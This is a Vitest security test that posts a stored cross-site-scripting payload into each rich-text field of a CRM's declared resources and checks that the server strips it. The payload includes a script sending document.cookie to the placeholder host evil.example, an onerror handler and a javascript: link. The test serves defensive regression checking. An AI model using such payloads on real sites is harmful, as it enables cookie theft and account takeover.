import { describe, expect, it } from "vitest"
import { isHtmlCodec } from "../../schemas/resources/fields.ts"
import { crmResources } from "../../schemas/resources/index.ts"
import { type List, type One, serverWithAdmin } from "../api/helpers.ts"

/**
 * Stored cross-site scripting through the CRM's rich text: an editor's (or a stolen editor token's)
 * save carries a script, an `onerror` handler and a `javascript:` link in an `htmlField`, for the
 * site to serve to every visitor of the page. The server sanitizes rich text because of the field's
 * type (server/lib/declared-fields.ts), for every declared resource; before, only for the resources
 * content-hooks.ts listed by name, so a new declaration with rich text stored the script as sent.
 * Every declared resource with rich text is attacked here, on the first of its records, with the raw body.
 */
const api = serverWithAdmin()

const richText = crmResources.flatMap((resource) => {
  const codecs = resource.edit?.codecs ?? {}
  return Object.keys(codecs)
    .filter((field) => isHtmlCodec(codecs[field]))
    .map((field) => ({ resource, field }))
})

/** What the attacker puts in the field: no double quotes, so it sits in the raw JSON as typed. */
const PAYLOAD =
  "<p>Акция</p><script>fetch('https://evil.example/?c='+document.cookie)</script><img src=/uploads/images/x.png onerror=alert(document.cookie)><a href=javascript:alert(1)>подробнее</a>"

describe("a script sent in a declared resource's rich text", () => {
  it("every resource with rich text is attacked here (the list comes from the declarations)", () => {
    expect(richText.map(({ resource, field }) => `${resource.name}.${field}`)).toEqual(expect.arrayContaining(["pages.body", "posts.body", "faq_questions.answer", "faq_articles.body", "tariffs.description"]))
  })

  it.for(richText.map(({ resource, field }) => [`${resource.name}.${field}`, resource, field] as const))("%s: stored without the script, the handler or the javascript: link", async ([, resource, field], { skip }) => {
    const wrapper = resource.edit!.wrapper
    const list = await api.crm<List>("GET", `${resource.apiPath}?per=1`)
    expect(list.status).toBe(200)
    const record = list.body.data[0]
    // A resource the seed gives no record is shown skipped (tests/api/declared-fields.test.ts proves the rule for any declaration).
    if (!record) return skip(`${resource.name} has no record to attack`)
    const before = record.attributes[field] as string

    const sent = await api.crm<One>("PATCH", `${resource.apiPath}/${record.id}`, { raw: `{"${wrapper}":{"${field}":"${PAYLOAD}"}}` })
    try {
      expect(sent.status).toBe(200)
      const stored = (await api.db().kysely.selectFrom(resource.table as never).select(field as never).where("id" as never, "=", Number(record.id) as never).executeTakeFirstOrThrow()) as Record<string, string>
      for (const html of [sent.body.data.attributes[field] as string, stored[field]!]) {
        expect(html).not.toMatch(/<script|document\.cookie|onerror|javascript:/i)
        expect(html).toContain("<p>Акция</p>")
        expect(html).toContain("подробнее</a>")
      }
    } finally {
      // The seeded record back as it was (PostgreSQL's database is shared by the files that follow).
      await api.crm("PATCH", `${resource.apiPath}/${record.id}`, { json: { [wrapper]: { [field]: before } } })
    }
  })
})
